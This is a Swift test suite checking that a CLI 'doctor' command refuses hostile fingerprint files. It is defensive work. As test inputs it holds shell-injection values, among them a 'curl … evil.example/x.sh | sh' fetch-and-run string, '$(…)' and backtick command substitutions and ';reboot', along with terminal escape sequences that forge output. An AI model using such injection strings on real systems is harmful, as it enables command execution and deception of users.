import Foundation
import SnackbarRendering
import SnackbarRenderingStack
import Testing

@testable import SnackbarCLI

/// `snackbar doctor` on fingerprints a stranger's pull request could carry (issue 19, points 2, 9
/// and 10): nothing from the file reaches the printed shell line or the terminal raw, and a
/// folder it cannot read is an error, never "matches".
@Suite final class DoctorHostileInputTests {
  let scratch: ScratchDirectory

  init() throws { scratch = try ScratchDirectory() }
  deinit { scratch.cleanUp() }

  /// A stack that is not this machine's, so doctor prints the install line when it can.
  static let recorded = RenderingFingerprint(
    libraries: ["cairo": "1.16.0", "pango": "1.50.12"],
    fonts: ["Roboto-Regular.ttf": String(repeating: "a", count: 64)],
    packages: ["libcairo2": "1.16.0-7", "libpixman-1-0": "0.42.2-1"])
  static let here = RenderingFingerprint(
    libraries: ["cairo": "1.18.0", "pango": "1.50.12"],
    fonts: ["Roboto-Regular.ttf": String(repeating: "b", count: 64)],
    packages: ["libcairo2": "1.18.0-1", "libpixman-1-0": "0.44.0-1"])

  func write(_ bytes: [UInt8], to relative: String) throws {
    let url = scratch.url.appendingPathComponent(relative)
    try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
    try Data(bytes).write(to: url)
  }

  func write(_ text: String, to relative: String) throws { try write(Array(text.utf8), to: relative) }

  /// `recorded` as a fingerprint.json with `packages` replaced by `packages` (raw JSON).
  func fingerprint(packages: String) throws -> String {
    var text = Self.recorded.stableText
    let start = try #require(text.range(of: "\"packages\" : {")).lowerBound
    let end = try #require(text[start...].range(of: "}")).upperBound
    text.replaceSubrange(start..<end, with: "\"packages\" : \(packages)")
    return text
  }

  /// Runs doctor on the scratch directory's `Snapshots`, on a machine whose stack is ``here``.
  func doctor(_ arguments: [String] = []) -> CLIRun {
    let machine = DoctorCommand.Machine(
      survey: { Self.here }, installedVersions: { _ in nil }, currentDirectory: scratch.url)
    return Self.run(arguments, machine: machine)
  }

  static func run(_ arguments: [String], machine: DoctorCommand.Machine) -> CLIRun {
    let recorder = CLIOutputRecorder()
    let status: Int32
    do {
      status = try DoctorCommand.run(arguments, recorder.output, machine: machine)
    } catch {
      recorder.output.standardError(error.description)
      status = error.exitStatus
    }
    let (output, errors) = recorder.lines
    return CLIRun(status: status, output: output, errors: errors)
  }

  /// Lines holding a control character (C0, DEL, C1) or a bidirectional override.
  static func rawControlLines(_ lines: [String]) -> [String] {
    lines.filter { line in
      line.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) || $0 == "\u{202E}" }
    }
  }

  @Test func theHonestFileStillPrintsItsInstallLine() throws {
    try write(Self.recorded.stableText, to: "Snapshots/Suite/fingerprint.json")
    try write("png", to: "Snapshots/Suite/a.png")
    let run = doctor()
    #expect(run.status == 1, "\(run.errors)")
    #expect(run.outputText.contains("apt-get install --allow-downgrades libcairo2=1.16.0-7 libpixman-1-0=0.42.2-1"))
  }

  @Test(arguments: [
    ("libcairo2", "1.16.0-7 && curl -s https://evil.example/x.sh | sh # …"),
    ("libpixman-1-0", "$(touch /tmp/PWNED)"),
    ("libcairo2", "1.16.0-7;reboot"),
    ("libcairo2", "1.16.0-7\n"),
    ("libcairo2", "`id`"),
    ("libcairo2", "a1.16.0"),
    ("libcairo2", "x:1.16.0-7"),
    ("libcairo2", "1:2:3"),
    ("libcairo2", "1.16.0-"),
    ("libcairo2", "1.16.0-7'"),
  ])
  func aVersionBreakingDebianSyntaxIsRefusedNamingTheFileAndKey(package: String, version: String) throws {
    let value = String(decoding: try JSONEncoder().encode(version), as: UTF8.self)
    try write(try fingerprint(packages: "{\"\(package)\": \(value)}"), to: "Snapshots/Suite/fingerprint.json")
    try write("png", to: "Snapshots/Suite/a.png")
    let run = doctor()
    #expect(run.status == 2, "\(run.output)")
    #expect(run.output.isEmpty)
    #expect(run.errorText.contains(scratch.path("Snapshots/Suite/fingerprint.json")), "\(run.errors)")
    #expect(run.errorText.contains("packages.\(package)"), "\(run.errors)")
    #expect(run.errorText.contains("not a Debian version"), "\(run.errors)")
    #expect(!run.errorText.contains("apt-get"))
    #expect(Self.rawControlLines(run.errors).isEmpty)
  }

  @Test(arguments: ["libcairo2 && reboot", "LibCairo2", "-libcairo", "x", "lib$(id)", "libcairo2=1"])
  func aPackageNameBreakingDebianSyntaxIsRefused(name: String) throws {
    let key = String(decoding: try JSONEncoder().encode(name), as: UTF8.self)
    try write(try fingerprint(packages: "{\(key): \"1.16.0-7\"}"), to: "Snapshots/Suite/fingerprint.json")
    let run = doctor()
    #expect(run.status == 2, "\(run.output)")
    #expect(run.errorText.contains("fingerprint.json"))
    #expect(run.errorText.contains("not a Debian package name"), "\(run.errors)")
    #expect(!run.errorText.contains("apt-get"))
  }

  @Test func aPinnedListBreakingDebianSyntaxIsRefused() throws {
    var recorded = Self.recorded
    recorded.packages = nil
    try write(recorded.stableText, to: "Snapshots/Suite/fingerprint.json")
    try write("libcairo2=1.16.0-7$(reboot)\n", to: "pinned.txt")
    let run = doctor(["--pinned", "pinned.txt"])
    #expect(run.status == 2)
    #expect(run.errorText.contains("pinned.txt line 1: expected PACKAGE=VERSION"))
  }

  @Test func terminalEscapesFromTheFileAreNeverPrintedRaw() throws {
    var recorded = Self.recorded
    // A title change, a line erase after a carriage return, a forged line, a bidi override.
    recorded.libraries["pango"] = "1.50\u{1B}]0;owned\u{07}\r\u{1B}[2Ksnackbar doctor: all good"
    recorded.fonts["Evil\nsnackbar doctor: this machine matches.ttf"] = "c"
    recorded.fontOptions = ["hint\u{202E}Style": "none\u{9B}31m"]
    try write(recorded.stableText, to: "Snapshots/Suite/fingerprint.json")
    try write("png", to: "Snapshots/Suite/name\u{1B}[31m.png")
    var here = Self.here
    here.fontOptions = ["hint\u{202E}Style": "full"]
    let machine = DoctorCommand.Machine(
      survey: { here }, installedVersions: { _ in nil }, currentDirectory: scratch.url)
    let run = Self.run([], machine: machine)
    #expect(run.status == 1, "\(run.errors)")
    #expect(Self.rawControlLines(run.output + run.errors).isEmpty, "\(run.output)")
    #expect(
      run.outputText.contains("library pango: expected 1.50\\x1B]0;owned\\x07\\x0D\\x1B[2Ksnackbar doctor: all good"))
    #expect(run.outputText.contains("Evil\\x0Asnackbar doctor"))
    #expect(run.outputText.contains("name\\x1B[31m.png"))
    #expect(run.outputText.contains("hint\\u{202E}Style"))
  }

  @Test func anErrorQuotingTheFileIsEscapedToo() throws {
    try write(
      #"{"libraries": {}, "fonts": {}, "packages": {"lib\u001b[2J": 1}}"#, to: "Snapshots/Suite/fingerprint.json")
    let run = doctor()
    #expect(run.status == 2)
    #expect(Self.rawControlLines(run.errors).isEmpty, "\(run.errors)")
  }

  @Test func repeatedKeysAreRefusedWithTheirPlace() throws {
    let text = try fingerprint(packages: "{\"libcairo2\": \"1.16.0-7\", \"libcairo2\": \"1.18.0-1\"}")
    try write(text, to: "Snapshots/Suite/fingerprint.json")
    let run = doctor()
    #expect(run.status == 2)
    #expect(run.errorText.contains("fingerprint.json"))
    #expect(run.errorText.contains("line "), "\(run.errors)")
    #expect(run.errorText.contains("\"libcairo2\""), "\(run.errors)")
  }

  @Test func anOversizedFingerprintIsRefusedNamingTheLimit() throws {
    // Valid JSON, 2 MiB: a fingerprint is a few KB.
    let padding = String(repeating: "x", count: 2 << 20)
    try write(
      "{\"libraries\": {}, \"fonts\": {}, \"padding\": \"\(padding)\"}", to: "Snapshots/Suite/fingerprint.json")
    let run = doctor()
    #expect(run.status == 2)
    #expect(run.errorText.contains(scratch.path("Snapshots/Suite/fingerprint.json")))
    #expect(run.errorText.contains("1 MiB"), "\(run.errors)")
  }

  @Test func aFingerprintThatIsAFIFOIsAnErrorNotAHang() throws {
    try write("png", to: "Snapshots/Suite/a.png")
    #expect(mkfifo(scratch.path("Snapshots/Suite/fingerprint.json"), 0o644) == 0)
    let run = doctor()
    #expect(run.status == 2)
    #expect(run.errorText.contains("FIFO"), "\(run.errors)")
  }

  @Test(.enabled(if: UnprivilegedThread.isAvailable, "needs setfsuid(2) when run as root"))
  func anUnreadableGoldensFolderIsAnErrorNamingIt() async throws {
    try write(Self.here.stableText, to: "Snapshots/Open/fingerprint.json")
    try write("png", to: "Snapshots/Open/a.png")
    try write(Self.recorded.stableText, to: "Snapshots/Locked/fingerprint.json")
    try write("png", to: "Snapshots/Locked/b.png")
    let locked = scratch.path("Snapshots/Locked")
    try FileManager.default.setAttributes([.posixPermissions: 0], ofItemAtPath: locked)
    defer { try? FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: locked) }
    let directory = scratch.url
    let run = try await UnprivilegedThread.run {
      Self.run([], machine: .init(survey: { Self.here }, installedVersions: { _ in nil }, currentDirectory: directory))
    }
    #expect(run.status == 2, "\(run.output)")
    #expect(!run.outputText.contains("matches"))
    #expect(run.errorText.contains(locked), "\(run.errors)")
  }

  @Test(.enabled(if: UnprivilegedThread.isAvailable, "needs setfsuid(2) when run as root"))
  func aGoldensFolderThatCannotBeSearchedIsAnError() async throws {
    // Listable (r) but not searchable (no x): the fingerprint inside cannot be opened.
    try write(Self.recorded.stableText, to: "Snapshots/Blind/fingerprint.json")
    try write("png", to: "Snapshots/Blind/b.png")
    let blind = scratch.path("Snapshots/Blind")
    try FileManager.default.setAttributes([.posixPermissions: 0o444], ofItemAtPath: blind)
    defer { try? FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: blind) }
    let directory = scratch.url
    let run = try await UnprivilegedThread.run {
      Self.run([], machine: .init(survey: { Self.here }, installedVersions: { _ in nil }, currentDirectory: directory))
    }
    #expect(run.status == 2, "\(run.output)")
    #expect(run.errorText.contains(blind), "\(run.errors)")
  }
}
